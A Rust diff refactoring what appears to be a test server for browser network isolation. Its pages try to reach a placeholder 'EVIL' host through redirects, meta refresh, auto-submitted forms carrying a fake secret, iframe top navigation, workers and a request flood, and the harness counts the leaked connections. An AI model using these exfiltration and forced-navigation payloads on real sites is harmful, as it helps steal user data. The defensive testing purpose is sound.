@@ -107,8 +107,6 @@ const GOING: [&str; 15] = [
 
 fn pages(asked: &Asked, fill: &dyn Fn(&str) -> String) -> Option<Vec<u8>> {
     let script = |text: &str| answer("200 OK", "Content-Type: text/javascript\r\n", &fill(text));
-    let go = |text: &str| page(&fill(&format!("<!doctype html><title>Go</title><p>going</p>{text}")));
-    let run = |text: &str| go(&format!("<script>{text}</script>"));
     let sent = |status: &str, place: &str| answer(status, &fill(&format!("Location: {place}\r\n")), "");
     match asked.target.split('?').next().unwrap_or_default() {
         "/leaks" => {
@@ -123,7 +121,7 @@ fn pages(asked: &Asked, fill: &dyn Fn(&str) -> String) -> Option<Vec<u8>> {
             answer("200 OK", &headers, &fill(include_str!("pages/leaks.html")))
         }
         "/start" => page(&fill(include_str!("pages/start.html"))),
-        "/flood" => run("for (let n = 0; n < 1000; n++) new Image().src = 'EVIL/flood?' + n"),
+        "/flood" => page(&fill("<script>for (let n = 0; n < 1000; n++) new Image().src = 'EVIL/flood?' + n</script>")),
         "/worker.js" => {
             script("fetch('EVIL/worker-fetch',{mode:'no-cors'});try{importScripts('EVIL/worker-import.js')}catch{}")
         }
@@ -133,41 +131,54 @@ fn pages(asked: &Asked, fill: &dyn Fn(&str) -> String) -> Option<Vec<u8>> {
         "/service.js" => script("fetch('EVIL/service-fetch',{mode:'no-cors'});importScripts('EVIL/service-import.js')"),
         "/to-evil" => sent("302 Found", "EVIL/fetch-redirect"),
         "/to-evil-with-body" => sent("307 Temporary Redirect", "EVIL/fetch-redirect-body"),
-        "/go/location" => run("location.href='EVIL/location.html?d=hunter2'"),
-        "/go/location-late" => run("setTimeout(()=>{location.href='EVIL/location-late.html'},200)"),
-        "/go/location-replace" => run("location.replace('EVIL/location-replace.html')"),
-        "/go/meta-refresh" => go("<meta http-equiv=refresh content='0;url=EVIL/meta-refresh.html'>"),
-        "/go/refresh-header" => answer(
+        "/to-307" => sent("307 Temporary Redirect", "EVIL/redirect-307.html"),
+        "/hop" => sent("303 See Other", "/hop2"),
+        "/hop2" => sent("308 Permanent Redirect", "EVIL/redirect-chain.html"),
+        target => match target.strip_prefix("/go/") {
+            Some(case) => leaving(case, fill),
+            None => page("<title>said</title><p>said"),
+        },
+    }
+}
+
+/// A page that leaves its site in the way that is called `case`.
+fn leaving(case: &str, fill: &dyn Fn(&str) -> String) -> Option<Vec<u8>> {
+    let go = |text: &str| page(&fill(&format!("<!doctype html><title>Go</title><p>going</p>{text}")));
+    let run = |text: &str| go(&format!("<script>{text}</script>"));
+    let sent = |status: &str, place: &str| answer(status, &fill(&format!("Location: {place}\r\n")), "");
+    match case {
+        "location" => run("location.href='EVIL/location.html?d=hunter2'"),
+        "location-late" => run("setTimeout(()=>{location.href='EVIL/location-late.html'},200)"),
+        "location-replace" => run("location.replace('EVIL/location-replace.html')"),
+        "meta-refresh" => go("<meta http-equiv=refresh content='0;url=EVIL/meta-refresh.html'>"),
+        "refresh-header" => answer(
             "200 OK",
             &fill("Content-Type: text/html\r\nRefresh: 0;url=EVIL/refresh-header.html\r\n"),
             "<p>going",
         ),
-        "/go/redirect-302" => sent("302 Found", "EVIL/redirect-302.html"),
-        "/go/redirect-307" => {
+        "redirect-302" => sent("302 Found", "EVIL/redirect-302.html"),
+        "redirect-307" => {
             go("<form id=f action=/to-307 method=post><input name=d value=hunter2></form><script>f.submit()</script>")
         }
-        "/to-307" => sent("307 Temporary Redirect", "EVIL/redirect-307.html"),
-        "/go/redirect-chain" => sent("301 Moved Permanently", "/hop"),
-        "/hop" => sent("303 See Other", "/hop2"),
-        "/hop2" => sent("308 Permanent Redirect", "EVIL/redirect-chain.html"),
-        "/go/navigate-get" => go(
+        "redirect-chain" => sent("301 Moved Permanently", "/hop"),
+        "navigate-get" => go(
             "<form id=f action=EVIL/navigate-get.html><input name=d value=hunter2></form><script>f.submit()</script>",
         ),
-        "/go/navigate-post" => go(
+        "navigate-post" => go(
             "<form id=f action=EVIL/navigate-post.html method=post><input name=d value=hunter2></form><script>f.submit()</script>",
         ),
-        "/go/navigate-top" => go("<iframe srcdoc=\"<script>top.location='EVIL/navigate-top.html'</script>\"></iframe>"),
-        "/go/navigate-link" => {
+        "navigate-top" => go("<iframe srcdoc=\"<script>top.location='EVIL/navigate-top.html'</script>\"></iframe>"),
+        "navigate-link" => {
             go("<a id=a href=EVIL/navigate-link.html referrerpolicy=unsafe-url>x</a><script>a.click()</script>")
         }
-        "/go/navigate-blob" => {
+        "navigate-blob" => {
             run("location=URL.createObjectURL(new Blob(['<img src=EVIL/navigate-blob>'],{type:'text/html'}))")
         }
-        "/go/navigate-document" => {
+        "navigate-document" => {
             run("document.open();document.write('<img src=EVIL/navigate-document>');document.close()")
         }
-        "/go/navigate-api" => run("navigation.navigate('EVIL/navigate-api.html')"),
-        _ => page("<title>said</title><p>said"),
+        "navigate-api" => run("navigation.navigate('EVIL/navigate-api.html')"),
+        _ => None,
     }
 }
 
@@ -275,11 +286,14 @@ fn table(closed: &Scene, open: &Scene) -> String {
         let count = |cases: &BTreeMap<String, usize>| cases.get(name).copied().unwrap_or_default();
         table.push_str(&format!("{name:<24} {:>7} {:>6}\n", count(&none), count(&some)));
     }
-    let sums: [(&str, fn(&Got) -> usize); 3] =
-        [("connections", |got| got.connections), ("bytes", |got| got.bytes), ("datagrams", |got| got.datagrams)];
-    for (name, of) in sums {
-        let sum = |scene: &Scene| of(&scene.evil.got()) + of(&scene.near.got());
-        table.push_str(&format!("{name:<24} {:>7} {:>6}\n", sum(closed), sum(open)));
+    let sums = |scene: &Scene| {
+        let (evil, near) = (scene.evil.got(), scene.near.got());
+        [evil.connections + near.connections, evil.bytes + near.bytes, evil.datagrams + near.datagrams]
+    };
+    for (name, (none, some)) in
+        ["connections", "bytes", "datagrams"].iter().zip(sums(closed).into_iter().zip(sums(open)))
+    {
+        table.push_str(&format!("{name:<24} {none:>7} {some:>6}\n"));
     }
     table
 }
